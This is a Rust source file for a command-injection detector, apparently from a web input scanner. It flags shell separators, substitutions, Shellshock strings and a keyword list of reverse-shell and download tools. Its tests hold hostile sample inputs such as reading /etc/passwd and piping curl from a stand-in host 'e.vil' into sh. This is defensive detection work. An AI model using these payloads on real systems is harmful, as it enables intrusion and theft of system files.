//! Command injection: what stands after a separator or inside a substitution is read as a shell reads it.

use super::Match;
use crate::rules;
use crate::text::{Ahead, at, find, is_space, is_word, rest, skip, span};

mod command;

use command::{Command, is_program, is_word_of_prose};

/// Deeper commands than this in one value say nothing new.
const LOOKS: usize = 512;

/// Searches a lower-case value.
pub(super) fn detect(value: &[u8], found: &mut impl FnMut(Match)) {
    separators(value, found);
    substitutions(value, found);
}

/// Searches a lower-case value that holds a literal which only programs and shells have.
pub(super) fn programs(value: &[u8], found: &mut impl FnMut(Match)) {
    paths(value, found);
    if let Some(start) = find(value, 0, b"<(").or_else(|| find(value, 0, b">("))
        && Command::read(value, start + 2).is_some_and(|c| !c.ambiguous())
    {
        found((&rules::CMD_SUBSTITUTION, start, start + 2));
    }
    if let Some(start) = find(value, 0, b"() {").or_else(|| find(value, 0, b"(){"))
        && find(span(value, start, start + 24), 0, b"}")
            .is_some_and(|end| matches!(at(value, skip(value, start + end + 1, is_space)), b';'))
    {
        found((&rules::CMD_SHELLSHOCK, start, start + 8));
    }
    for word in [&b"$ifs"[..], b"${ifs", b"/dev/tcp/", b"/dev/udp/"] {
        if let Some(start) = find(value, 0, word) {
            found((&rules::CMD_INJECTION, start, start + word.len()));
        }
    }
}

fn separators(value: &[u8], found: &mut impl FnMut(Match)) {
    let mut i = 0;
    for _ in 0..LOOKS {
        let start = skip(value, i, |b| !matches!(b, b';' | b'|' | b'&' | b'\n'));
        if start >= value.len() {
            break;
        }
        let separator = at(value, start);
        let end = skip(value, start, |b| {
            matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r')
        });
        i = end;
        let doubled = end > start + 1;
        let Some(command) = Command::read(value, end) else {
            continue;
        };
        let strong = match separator {
            b'|' => !command.is_pipe_in_prose(value, start),
            b';' => {
                command.argued()
                    || start == 0 && command.is_enclosed(value)
                    || (!command.ambiguous()
                        && command.last
                        && (start == 0
                            || end == command.from
                            || command.path
                            || value.len() < 40 && command.is_unmistakable(value)))
            }
            b'&' => {
                command.argued()
                    || doubled && !command.ambiguous()
                    || start == 0 && at(value, command.to) == b'&' && command.is_enclosed(value)
                    || (!command.ambiguous()
                        && command.last
                        && !is_word(if start == 0 {
                            b' '
                        } else {
                            at(value, start - 1)
                        }))
            }
            _ => {
                !command.ambiguous()
                    && (command.telling() || !doubled && command.is_enclosed(value))
            }
        };
        if strong
            && (!command.ambiguous()
                || command.argued()
                || command.last && separator == b'|' && start == 0
                || start == 0 && command.is_enclosed(value))
        {
            found((&rules::CMD_INJECTION, start, command.to));
            return;
        }
        // A line that is a command alone, in a value of two or three words.
        if matches!(separator, b'\n') && value.len() < 64 && !command.ambiguous() && command.last {
            found((&rules::CMD_HINT, start, command.to));
        }
    }
    // A value that is nothing but a command that tells about the machine.
    if let Some(command) = Command::read(value, 0)
        && value.len() <= 24
        && command.from == 0
        && command.is_unmistakable(value)
        && (command.to == value.len() || command.argued())
    {
        found((&rules::CMD_PROGRAM, command.from, command.to));
        return;
    }
    // A separator at the end and a program at the beginning: `id;`, `/bin/ls|`.
    if let Some(command) = Command::read(value, 0)
        && !command.ambiguous()
        && (command.path || command.telling())
    {
        found((&rules::CMD_PROGRAM, command.from, command.to));
    }
}

fn substitutions(value: &[u8], found: &mut impl FnMut(Match)) {
    let mut i = 0;
    let (mut ticks, mut brackets) = (Ahead::of(b"`"), Ahead::of(b")"));
    for _ in 0..LOOKS {
        let Some(start) = memchr::memchr2(b'`', b'$', rest(value, i)).map(|n| n + i) else {
            break;
        };
        i = start + 1;
        let inside = match (at(value, start), at(value, start + 1)) {
            (b'`', _) => start + 1,
            (b'$', b'(') => start + 2,
            _ => continue,
        };
        let Some(command) = Command::read(value, inside) else {
            continue;
        };
        let tick = at(value, start) == b'`';
        let end = if tick { &mut ticks } else { &mut brackets }.from(value, inside);
        // Prose about programs puts their names in ticks: a blank before, a blank or a full stop behind.
        let quoted = tick
            && value.len() > 60
            && start > 0
            && (is_space(at(value, start - 1)) || at(value, start - 1) >= 0x80);
        let whole = end.is_none_or(|end| command.argued() || end <= command.to + 1);
        if whole && (!command.ambiguous() || command.argued()) && (end.is_some() || !tick) {
            found((
                if quoted {
                    &rules::CMD_HINT
                } else {
                    &rules::CMD_SUBSTITUTION
                },
                start,
                end.unwrap_or(command.to) + 1,
            ));
            return;
        }
        if let Some(end) = end.filter(|_| tick) {
            i = end + 1;
        }
    }
}

/// Programs by their full path, wherever they stand.
fn paths(value: &[u8], found: &mut impl FnMut(Match)) {
    let mut i = 0;
    while let Some(start) = find(value, i, b"bin/") {
        i = start + 4;
        let program = span(value, i, skip(value, i, |b| is_word(b) || b == b'.'));
        let after = at(value, i + program.len());
        if (is_program(program) || is_word_of_prose(program))
            && (is_space(after)
                || matches!(
                    after,
                    0 | b'|' | b';' | b'`' | b'"' | b'\'' | b')' | b'&' | b'$' | b'>' | b'%'
                ))
            && (start == 0 || matches!(at(value, start - 1), b'/' | b's'))
        {
            found((&rules::CMD_PROGRAM, start, i + program.len()));
            return;
        }
    }
    for (word, rule) in [
        (&b"cmd.exe"[..], &rules::CMD_PROGRAM),
        (b"cmd /c", &rules::CMD_PROGRAM),
        (b"cmd/c", &rules::CMD_PROGRAM),
        (b"powershell -", &rules::CMD_PROGRAM),
        (b"xp_cmdshell", &rules::CMD_PROGRAM),
        (b"nc -e", &rules::CMD_PROGRAM),
        (b"bash -i", &rules::CMD_PROGRAM),
        (b"bash -c", &rules::CMD_PROGRAM),
        (b"sh -c", &rules::CMD_PROGRAM),
        (b"invoke-expression", &rules::CMD_PROGRAM),
        (b"downloadstring", &rules::CMD_PROGRAM),
        (b"rm -rf /", &rules::CMD_PROGRAM),
        (b"/???/", &rules::CMD_HINT),
    ] {
        if let Some(start) = find(value, 0, word)
            && (start == 0 || !is_word(at(value, start - 1)))
        {
            found((rule, start, start + word.len()));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(value: &str) -> u32 {
        let mut score = 0;
        let value = value.to_ascii_lowercase();
        detect(value.as_bytes(), &mut |(rule, _, _)| {
            score = score.max(rule.score)
        });
        programs(value.as_bytes(), &mut |(rule, _, _)| {
            score = score.max(rule.score)
        });
        score
    }

    #[test]
    fn commands_after_separators_and_in_substitutions_are_seen() {
        for value in [
            "; id",
            ";id|",
            "|/bin/ls -al",
            "a|id",
            "`id`",
            "$(whoami)",
            "127.0.0.1; cat /etc/passwd",
            "& ping -i 30 127.0.0.1 &",
            "||/usr/bin/id|",
            "a && wget http://e.vil/x",
            ";c'a't /etc/passwd",
            ";w\\hoami",
            "`/usr/bin/id`",
            "() { :;}; echo x",
            "x;cat${IFS}/etc/passwd",
            "| sleep 10",
            "a;echo $PATH",
            "1\ncurl -s http://e.vil|sh",
            "/bin/ls -al",
            "$(curl http://e.vil)",
            "'; ping -c 3 127.0.0.1 #",
            "x|dir c:\\",
            ";netstat -a;",
            "powershell -enc aaaa",
            "a;/usr/bin/id",
            "ping -n 5 127.0.0.1",
            ";read;",
            "localhost\nenv;",
        ] {
            assert!(score(value) >= 5, "missed: {value}");
        }
    }

    #[test]
    fn separators_in_prose_are_not_commands() {
        for value in [
            "cats; find out more",
            "q & a",
            "r&d",
            "at&t",
            "p&id diagrams",
            "black & white; more or less",
            "a | b | c",
            "text/html;q=0.9",
            "first; sort the rest",
            "$(\"#x\")",
            "buy milk; date tbd",
            "mozilla/5.0 (windows nt 10.0; win64; x64)",
            "see `readme` for details",
            "price $5 (net)",
            "名称；查找 find 内容",
            "a;b;c",
            "read;",
            ";read;write",
            "time;read;",
            "time | host | cat pictures",
            "line one\nfind me\nsort it",
            "foo=bar; path=/; httponly",
            "set-cookie; id",
            "curl is a tool",
            "node.js; java; python 编程",
        ] {
            assert!(score(value) < 5, "flagged: {value}");
        }
    }
}
